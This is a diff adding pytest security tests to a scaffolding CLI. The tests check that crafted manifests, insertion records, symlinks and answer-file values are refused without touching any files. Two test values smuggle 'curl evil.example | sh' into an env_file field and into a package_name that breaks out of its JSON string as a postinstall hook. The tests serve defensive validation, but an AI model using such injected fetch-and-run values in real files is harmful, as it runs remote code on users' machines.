@@ -224,3 +224,179 @@ def test_a_crashed_run_is_still_recovered_from_the_state_folder(afc_project, mon
     result = afc("status", "-C", str(root))
     assert result.exit_code == 0 and "was rolled back" in result.output
     assert snapshot(root) == before and not _state(root).exists()
+
+
+# -- item 2: a manifest is a claim, checked against what afc would write itself --------------------------
+
+from afc_realtime import manifest as manifest_mod  # noqa: E402
+from afc_realtime.edits.insertion import CONTEXT, Insertion, _digest  # noqa: E402
+
+MANIFEST = ".afc/manifest.toml"
+ANSWERS = "apps/ws/.copier-answers.yml"
+
+
+def _rewrite(root, change, *extra):
+    """Change the committed manifest with `change(record)` (and commit `extra` files with it), as a
+    collaborator's commit would."""
+    existing = manifest_mod.load((root / MANIFEST).read_text())
+    change(existing.features["websocket"])
+    (root / MANIFEST).write_text(manifest_mod.dump(existing))
+    commit_all(root, "a crafted manifest")
+
+
+def _refused(root, *commands, code=2, says=""):
+    """Each command refuses with `code`, naming what `says`, and every file's bytes stay as they were."""
+    before = snapshot(root)
+    for command in commands:
+        args = [command, "websocket", "-C", str(root), "--yes", "--allow-dirty"]
+        result = afc(*(args + ["--force"] if command == "remove" else args))
+        assert result.exit_code == code, (command, result.output)
+        assert says in result.output and "Traceback" not in result.output, (command, result.output)
+        assert snapshot(root) == before, command
+
+
+def _files_of(root, folder):
+    return {
+        p.relative_to(root).as_posix(): _sha(p.read_bytes()) for p in sorted((root / folder).rglob("*")) if p.is_file()
+    }
+
+
+def _depend_on_db(root):
+    """The web app depends on the workspace's db package, as in the bundled example (`@todo/db`)."""
+    web = root / "apps/web/package.json"
+    web.write_text(
+        web.read_text().replace('"dependencies": {', '"dependencies": {\n        "@app/db": "workspace:*",', 1)
+    )
+    commit_all(root, "depend on db")
+
+
+def _point_at_db(root, extra=None):
+    """A record that asks nothing of the recipe's own folders: only the db package's files, by their hashes."""
+
+    def point(record):
+        record.service_dir = "packages/db"
+        record.files = {**_files_of(root, "packages/db"), **(extra or {})}
+        record.insertions, record.created_dirs = {}, []
+
+    _rewrite(root, point)
+
+
+def test_a_service_dir_pointed_at_a_workspace_package_deletes_nothing(afc_project):
+    root = _added(afc_project)
+    _depend_on_db(root)
+    _point_at_db(root)
+    _refused(root, "remove", "update", says="packages/db/.copier-answers.yml")  # no answers: afc cannot tell
+
+
+def test_a_workspace_package_with_crafted_answers_and_base_copies_is_still_not_the_service(afc_project):
+    root = _added(afc_project)
+    _depend_on_db(root)
+    answers = (root / ANSWERS).read_text().replace("apps/ws", "packages/db")
+    name = json.loads((root / "packages/db/package.json").read_text())["name"]
+    answers = "\n".join(
+        f"package_name: '{name}'" if ln.startswith("package_name:") else ln for ln in answers.splitlines()
+    )
+    (root / "packages/db/.copier-answers.yml").write_text(answers + "\n")
+    base = root / ".afc/base/packages/db"
+    base.mkdir(parents=True)
+    (base / "package.json.base").write_bytes((root / "packages/db/package.json").read_bytes())
+    copy = {".afc/base/packages/db/package.json.base": _sha((base / "package.json.base").read_bytes())}
+    _point_at_db(root, copy)
+    _refused(root, "remove", "update", says="packages/db/.copier-answers.yml:")
+    said = afc("update", "websocket", "-C", str(root), "--yes").output
+    assert f"answer package_name: '{name}' is a package the workspace or the service depends on" in said
+
+
+def test_a_service_folder_whose_package_is_another_is_refused_even_with_the_services_answers(afc_project):
+    root = _added(afc_project)
+    package = root / "apps/ws/package.json"
+    package.write_text(package.read_text().replace('"@app/realtime"', '"@app/payments"', 1))
+    commit_all(root, "the folder is another package now")
+    _refused(root, "remove", "update", says="apps/ws is the workspace package '@app/payments', not afc's service")
+
+
+@pytest.mark.parametrize("folder", [".", "..", "apps/web", "apps", ".git", "apps/web/src"])
+def test_a_service_dir_that_is_the_root_outside_or_the_web_app_is_refused(afc_project, folder):
+    root = _added(afc_project)
+    text = (root / MANIFEST).read_text().replace('service_dir = "apps/ws"', f'service_dir = "{folder}"')
+    assert text != (root / MANIFEST).read_text()
+    (root / MANIFEST).write_text(text)
+    commit_all(root, "crafted")
+    _refused(root, "remove", "update", says=MANIFEST)
+
+
+def _placed(text, at, inserted, what="crafted"):
+    """An insertion record for `inserted` standing at `at`, with the surroundings afc would have recorded."""
+    return Insertion(
+        at,
+        inserted,
+        what,
+        _digest(text[max(0, at - CONTEXT) : at]),
+        _digest(text[at + len(inserted) : at + len(inserted) + CONTEXT]),
+    )
+
+
+CRAFTED = {
+    "a closing brace in a page": ("apps/web/src/app/page.tsx", "}\n", None),
+    "a comma in package.json": ("package.json", ",", None),
+    "REDIS_URL in the ignored .env": (".env", "REDIS_URL=", "REDIS_URL=redis://mine:6379\n"),
+    "a ws: block of the user's own in compose": ("compose.dev.yml", "  ws:\n    image: nginx\n", None),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CRAFTED))
+def test_a_crafted_insertion_cuts_nothing(afc_project, case):
+    path, inserted, line = CRAFTED[case]
+    root = _added(afc_project)
+    if line:
+        (root / path).write_text((root / path).read_text() + line)
+    if path == "compose.dev.yml":
+        text = (root / path).read_text()
+        (root / path).write_text(text.replace("services:\n", "services:\n" + inserted, 1))
+    text = (root / path).read_text()
+    at = text.rindex(inserted)
+
+    def craft(record):
+        record.insertions.setdefault(path, []).append(_placed(text, at, inserted))
+
+    _rewrite(root, craft)
+    _refused(root, "remove", says="not text afc inserts" if "comma" not in case else "comma")
+
+
+def test_a_link_inside_the_service_folder_never_leads_to_its_target(afc_project):
+    root = _added(afc_project)
+    target = root / "packages/db/src/schema.ts"
+    os.symlink("../../../packages/db/src/schema.ts", root / "apps/ws/src/evil.ts")
+
+    def record_link(record):
+        record.files["apps/ws/src/evil.ts"] = _sha(target.read_bytes())
+
+    _rewrite(root, record_link)
+    _refused(root, "remove", "update", says="apps/ws/src/evil.ts: a link")
+    assert target.is_file()
+
+
+ANSWER_ATTACKS = {
+    "a shell command in dev": ("env_file", 'env_file: "../../.env src/x.ts; curl evil.example | sh #"', "env_file"),
+    "an invalid port": ("ws_port", "ws_port: 70000", "not a TCP port"),
+    "a name breaking out of its JSON string": (
+        "package_name",
+        'package_name: "x\\", \\"postinstall\\": \\"curl evil.example | sh"',
+        "not an npm package name",
+    ),
+    "another workspace package's name": ("package_name", "package_name: '@app/db'", "another package"),
+    "another service folder": ("service_dir", "service_dir: packages/db", "service_dir"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ANSWER_ATTACKS))
+def test_the_answers_file_is_checked_against_its_schema_naming_the_file_and_line(afc_project, case):
+    key, replacement, says = ANSWER_ATTACKS[case]
+    root = _added(afc_project)
+    lines = (root / ANSWERS).read_text().splitlines()
+    number = next(n for n, ln in enumerate(lines, 1) if ln.startswith(f"{key}:"))
+    lines[number - 1] = replacement
+    (root / ANSWERS).write_text("\n".join(lines) + "\n")
+    commit_all(root, "crafted answers")
+    _refused(root, "update", says=f"{ANSWERS}:{number}: answer {key}")
+    assert says in afc("update", "websocket", "-C", str(root), "--yes").output
